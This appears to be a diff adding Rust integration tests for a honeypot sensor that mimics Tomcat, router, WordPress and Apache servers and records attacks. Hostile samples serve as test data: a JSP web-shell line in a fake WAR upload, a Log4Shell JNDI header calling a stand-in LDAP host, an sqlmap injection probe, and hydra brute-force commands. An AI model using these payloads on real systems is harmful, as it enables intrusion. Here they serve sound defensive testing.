@@ -10,7 +10,7 @@ use std::path::{Path, PathBuf};
 use std::sync::Arc;
 use std::time::Duration;
 
-use hpti_core::event::{Event, EventKind};
+use hpti_core::event::{AuthMethod, Event, EventKind};
 use hpti_core::pipeline::{Pipeline, PipelineConfig};
 use hpti_core::testing::MemorySink;
 use hpti_sensors::honeypot::HoneypotConfig;
@@ -328,4 +328,376 @@ async fn the_nginx_persona_answers_as_debians_nginx() {
         .filter(|c| !skip.contains(c))
         .collect();
     compare_captures(&harness, "nginx-debian", &cases, &[]).await;
+}
+
+#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
+async fn the_tomcat_persona_answers_as_debians_tomcat() {
+    let harness = Harness::start(|c| {
+        c.app = "tomcat".into();
+        c.listen = four_digit_port();
+    })
+    .await;
+    let cases: Vec<String> = std::fs::read_to_string(testdata().join("tomcat10-debian/INDEX.tsv"))
+        .unwrap()
+        .lines()
+        .skip(1)
+        .filter_map(|l| l.split('\t').next().map(str::to_owned))
+        .collect();
+    let skip = [
+        // Not modelled: conditional requests; the Java stack traces of oversized heads.
+        "if-modified-since",
+        "if-none-match",
+        "if-range-match",
+        "header-10k",
+        "uri-10000",
+    ];
+    let cases: Vec<&str> = cases
+        .iter()
+        .map(String::as_str)
+        .filter(|c| !skip.contains(c))
+        .collect();
+    compare_captures(&harness, "tomcat10-debian", &cases, &[]).await;
+}
+
+async fn run_client(mut command: std::process::Command) -> std::process::Output {
+    tokio::task::spawn_blocking(move || command.output().unwrap())
+        .await
+        .unwrap()
+}
+
+fn tool_missing(tool: &str) {
+    assert!(
+        std::env::var("HPTI_REQUIRE_SERVICES").as_deref() != Ok("1"),
+        "{tool} is required (HPTI_REQUIRE_SERVICES=1)"
+    );
+    eprintln!("SKIPPED: {tool} is not installed");
+}
+
+fn installed(tool: &str) -> bool {
+    std::process::Command::new(tool)
+        .arg("--version")
+        .output()
+        .is_ok()
+}
+
+fn logins(events: &[Event]) -> Vec<(String, Option<String>, AuthMethod)> {
+    events
+        .iter()
+        .filter_map(|e| match &e.kind {
+            EventKind::LoginAttempt {
+                username,
+                password,
+                method,
+                success,
+                ..
+            } => {
+                assert!(!success, "web logins are refused");
+                Some((username.clone(), password.clone(), *method))
+            }
+            _ => None,
+        })
+        .collect()
+}
+
+fn requests(events: &[Event]) -> Vec<&Event> {
+    events
+        .iter()
+        .filter(|e| matches!(e.kind, EventKind::HttpRequest { .. }))
+        .collect()
+}
+
+/// curl with Basic credentials against the router persona: the 401 it expects, the
+/// attempt recorded once, with the request.
+#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
+async fn curl_basic_auth_is_captured_and_refused() {
+    let harness = Harness::start(|c| c.app = "router".into()).await;
+    let url = format!("http://{}/userRpm/LoginRpm.htm", harness.addr);
+    let output = {
+        let mut curl = std::process::Command::new("curl");
+        curl.args(["-s", "-i", "-u", "admin:tp-l1nk!", &url]);
+        run_client(curl).await
+    };
+    let answer = String::from_utf8_lossy(&output.stdout).into_owned();
+    assert!(answer.starts_with("HTTP/1.1 401 Unauthorized\r\n"), "{answer}");
+    assert!(
+        answer.contains("WWW-Authenticate: Basic realm=\"TP-LINK Wireless N Router WR841N\"\r\n"),
+        "{answer}"
+    );
+    assert!(answer.contains("Server: Router Webserver\r\n"), "{answer}");
+    let events = harness
+        .wait_for("the login and the request", |e| {
+            logins(e).len() == 1 && requests(e).len() == 1
+        })
+        .await;
+    assert_eq!(
+        logins(&events),
+        vec![("admin".into(), Some("tp-l1nk!".into()), AuthMethod::Password)]
+    );
+    let EventKind::HttpRequest {
+        method,
+        uri,
+        status,
+        detail,
+        user_agent,
+        ..
+    } = &requests(&events)[0].kind
+    else {
+        unreachable!()
+    };
+    assert_eq!((method.as_str(), uri.as_str(), *status), ("GET", "/userRpm/LoginRpm.htm", Some(401)));
+    assert!(user_agent.as_deref().unwrap().starts_with("curl/"));
+    let detail = detail.as_ref().unwrap();
+    assert_eq!(detail.app.as_deref(), Some("router"));
+    assert!(detail.headers.iter().any(|(n, v)| n == "Authorization" && v.starts_with("Basic ")));
+    assert_eq!(detail.response_size, Some(answer.len() as u64));
+}
+
+/// A WAR pushed to Tomcat's manager with curl's multipart upload: the 401, the
+/// credentials, and the file stored by SHA-256 (never on the real filesystem but the
+/// artifact store).
+#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
+async fn curl_multipart_upload_goes_to_the_artifact_store() {
+    let harness = Harness::start(|c| c.app = "tomcat".into()).await;
+    let work = tempfile::tempdir().unwrap();
+    let war = work.path().join("shell.war");
+    let content = b"PK\x03\x04 not really a war, but a payload <% Runtime.getRuntime().exec(request.getParameter(\"c\")); %>";
+    std::fs::write(&war, content).unwrap();
+    let url = format!("http://{}/manager/html/upload", harness.addr);
+    let output = {
+        let mut curl = std::process::Command::new("curl");
+        curl.args(["-s", "-o", "/dev/null", "-w", "%{http_code}", "-u", "tomcat:s3cret"])
+            .arg("-F")
+            .arg(format!("deployWar=@{}", war.display()))
+            .arg(&url);
+        run_client(curl).await
+    };
+    assert_eq!(String::from_utf8_lossy(&output.stdout), "401");
+    let events = harness
+        .wait_for("the upload", |e| {
+            e.iter().any(|e| matches!(e.kind, EventKind::FileUpload { .. }))
+        })
+        .await;
+    let sha256 = events
+        .iter()
+        .find_map(|e| match &e.kind {
+            EventKind::FileUpload {
+                filename,
+                sha256: Some(sha256),
+                size,
+            } => {
+                assert_eq!(filename, "shell.war");
+                assert_eq!(*size, Some(content.len() as u64));
+                Some(sha256.clone())
+            }
+            _ => None,
+        })
+        .unwrap();
+    let stored = std::fs::read(
+        harness
+            .data_dir()
+            .join("artifacts")
+            .join(&sha256[..2])
+            .join(&sha256),
+    )
+    .or_else(|_| std::fs::read(harness.data_dir().join("artifacts").join(&sha256)))
+    .expect("the upload is in the artifact store");
+    assert_eq!(stored, content);
+    assert_eq!(
+        logins(&events),
+        vec![("tomcat".into(), Some("s3cret".into()), AuthMethod::Password)]
+    );
+}
+
+/// THC-Hydra's `http-post-form` against the WordPress login: hydra finds no password
+/// (every one is refused with WordPress's error), and every attempt is recorded once.
+#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
+async fn hydra_http_post_form_on_wordpress_records_each_attempt_once() {
+    // hydra has no --version (`-h` exits 255): whether it runs at all is the probe.
+    if std::process::Command::new("hydra").arg("-h").output().is_err() {
+        return tool_missing("hydra");
+    }
+    let harness = Harness::start(|c| c.app = "wordpress".into()).await;
+    let work = tempfile::tempdir().unwrap();
+    let passwords: Vec<String> = (0..40).map(|i| format!("pass{i:02}!")).collect();
+    std::fs::write(work.path().join("pw.txt"), passwords.join("\n") + "\n").unwrap();
+    let output = {
+        let mut hydra = std::process::Command::new("hydra");
+        hydra
+            .args(["-l", "admin", "-P"])
+            .arg(work.path().join("pw.txt"))
+            .args(["-t", "4", "-I", "-s", &harness.addr.port().to_string(), "127.0.0.1"])
+            .args(["http-post-form", "/wp-login.php:log=^USER^&pwd=^PASS^&wp-submit=Log+In:F=is incorrect"]);
+        run_client(hydra).await
+    };
+    let stdout = String::from_utf8_lossy(&output.stdout).into_owned();
+    assert!(
+        stdout.contains("0 valid password"),
+        "hydra saw the login fail every time:\n{stdout}\n{}",
+        String::from_utf8_lossy(&output.stderr)
+    );
+    let events = harness
+        .wait_for("40 login attempts", |e| logins(e).len() >= passwords.len())
+        .await;
+    tokio::time::sleep(Duration::from_millis(300)).await;
+    let events = if logins(&events).len() == passwords.len() {
+        harness.events.events_by_time()
+    } else {
+        events
+    };
+    let mut tried: Vec<String> = logins(&events)
+        .into_iter()
+        .map(|(user, pass, _)| {
+            assert_eq!(user, "admin");
+            pass.unwrap()
+        })
+        .collect();
+    tried.sort();
+    assert_eq!(tried, passwords, "each password exactly once");
+}
+
+/// `nmap -sV -sC` names the Apache persona as it named Debian's Apache
+/// (`testdata/http/nmap-apache.txt`).
+#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
+async fn nmap_names_the_apache_persona_as_debians_apache() {
+    if !installed("nmap") {
+        return tool_missing("nmap");
+    }
+    let harness = Harness::start(|c| c.app = "apache".into()).await;
+    let port = harness.addr.port().to_string();
+    let output = {
+        let mut nmap = std::process::Command::new("nmap");
+        nmap.args(["-sV", "-sC", "-Pn", "-n", "-p", &port, "127.0.0.1"]);
+        run_client(nmap).await
+    };
+    let stdout = String::from_utf8_lossy(&output.stdout).into_owned();
+    let real = std::fs::read_to_string(testdata().join("nmap-apache.txt")).unwrap();
+    for expected in [
+        "/tcp open  http    Apache httpd 2.4.71 ((Debian))",
+        "|_http-title: Apache2 Debian Default Page: It works",
+        "|_http-server-header: Apache/2.4.71 (Debian)",
+    ] {
+        assert!(stdout.contains(expected), "{expected:?} in nmap's output:\n{stdout}");
+        assert!(real.contains(expected), "{expected:?} as against the real Apache");
+    }
+}
+
+/// Three requests in one write (HTTP/1.1 pipelining): three answers, in order.
+#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
+async fn pipelined_requests_are_answered_in_order() {
+    let harness = Harness::start(|c| c.app = "apache".into()).await;
+    let request = b"GET /a HTTP/1.1\r\nHost: x\r\n\r\nGET / HTTP/1.1\r\nHost: x\r\n\r\n\
+                    GET /b HTTP/1.1\r\nHost: x\r\nConnection: close\r\n\r\n";
+    let answer = String::from_utf8_lossy(&raw_exchange(harness.addr, request).await).into_owned();
+    let statuses: Vec<&str> = answer
+        .match_indices("HTTP/1.1 ")
+        .map(|(i, _)| &answer[i + 9..i + 12])
+        .collect();
+    assert_eq!(statuses, vec!["404", "200", "404"], "{answer}");
+    let events = harness
+        .wait_for("three requests", |e| requests(e).len() == 3)
+        .await;
+    let uris: Vec<_> = requests(&events)
+        .iter()
+        .map(|e| match &e.kind {
+            EventKind::HttpRequest { uri, .. } => uri.clone(),
+            _ => unreachable!(),
+        })
+        .collect();
+    assert_eq!(uris, vec!["/a", "/", "/b"]);
+}
+
+/// A client that sends its head slower than `header_timeout` (slowloris) is closed,
+/// counted, and costs nothing more.
+#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
+async fn slow_heads_are_cut_off() {
+    let harness = Harness::start(|c| {
+        c.limits.header_timeout = Duration::from_millis(500);
+    })
+    .await;
+    let mut stream = TcpStream::connect(harness.addr).await.unwrap();
+    stream.write_all(b"GET / HTTP/1.1\r\nHost: x\r\nX-a: ").await.unwrap();
+    let started = std::time::Instant::now();
+    let mut buf = [0u8; 64];
+    // Bytes trickle in; the sensor closes at its deadline anyway.
+    let closed = loop {
+        let _ = stream.write_all(b"b").await;
+        match tokio::time::timeout(Duration::from_millis(100), stream.read(&mut buf)).await {
+            Ok(Ok(0)) | Ok(Err(_)) => break true,
+            Ok(Ok(_)) => {}
+            Err(_) => {}
+        }
+        if started.elapsed() > PATIENCE {
+            break false;
+        }
+    };
+    assert!(closed, "the connection was closed");
+    assert!(started.elapsed() < Duration::from_secs(5));
+}
+
+/// A body over `max_body_bytes` gets the server's 413 and a close, before the body is
+/// read.
+#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
+async fn oversized_bodies_are_refused() {
+    let harness = Harness::start(|c| {
+        c.app = "wordpress".into();
+        c.limits.max_body_bytes = 1024;
+    })
+    .await;
+    let request = b"POST /wp-login.php HTTP/1.1\r\nHost: x\r\nContent-Length: 1000000\r\n\r\nlog=a";
+    let answer = String::from_utf8_lossy(&raw_exchange(harness.addr, request).await).into_owned();
+    assert!(answer.starts_with("HTTP/1.1 413 Request Entity Too Large\r\n"), "{answer}");
+    assert!(answer.contains("Connection: close\r\n"), "{answer}");
+}
+
+fn labels_of(event: &Event) -> Vec<String> {
+    match &event.kind {
+        EventKind::HttpRequest { labels, .. } => labels.clone(),
+        _ => Vec::new(),
+    }
+}
+
+/// An sqlmap probe and a Log4Shell header: each request's event carries the labels of
+/// what it attempts, and the plain request none.
+#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
+async fn attacks_are_labelled_in_the_event() {
+    let harness = Harness::start(|c| c.app = "apache".into()).await;
+    let sqlmap = b"GET /index.php?id=1%27%20AND%203617%3D3617%20AND%20%27xYzA%27%3D%27xYzA HTTP/1.1\r\n\
+                   Host: x\r\nUser-Agent: sqlmap/1.7.2#stable (https://sqlmap.org)\r\nConnection: close\r\n\r\n";
+    let log4shell = b"GET / HTTP/1.1\r\nHost: x\r\nX-Api-Version: ${jndi:ldap://203.0.113.5:1389/Exploit}\r\n\
+                      User-Agent: Mozilla/5.0\r\nConnection: close\r\n\r\n";
+    let plain = b"GET / HTTP/1.1\r\nHost: x\r\nUser-Agent: Mozilla/5.0 (X11; Linux x86_64; rv:128.0) \
+                  Gecko/20100101 Firefox/128.0\r\nConnection: close\r\n\r\n";
+    for request in [&sqlmap[..], &log4shell[..], &plain[..]] {
+        raw_exchange(harness.addr, request).await;
+    }
+    let events = harness
+        .wait_for("three requests", |e| requests(e).len() == 3)
+        .await;
+    let by_uri = |prefix: &str, agent: &str| {
+        requests(&events)
+            .into_iter()
+            .find(|e| match &e.kind {
+                EventKind::HttpRequest { uri, user_agent, .. } => {
+                    uri.starts_with(prefix) && user_agent.as_deref().unwrap_or("").starts_with(agent)
+                }
+                _ => false,
+            })
+            .map(labels_of)
+            .unwrap()
+    };
+    let sqli = by_uri("/index.php", "sqlmap");
+    assert!(sqli.contains(&"sqli".into()) && sqli.contains(&"scanner:sqlmap".into()), "{sqli:?}");
+    let jndi = requests(&events)
+        .into_iter()
+        .find(|e| match &e.kind {
+            EventKind::HttpRequest { detail, .. } => detail
+                .as_ref()
+                .is_some_and(|d| d.headers.iter().any(|(n, _)| n == "X-Api-Version")),
+            _ => false,
+        })
+        .map(labels_of)
+        .unwrap();
+    assert_eq!(jndi, vec!["log4shell".to_owned()]);
+    let _ = by_uri("/", "Mozilla/5.0 (X11");
+    assert!(by_uri("/", "Mozilla/5.0 (X11").is_empty());
 }
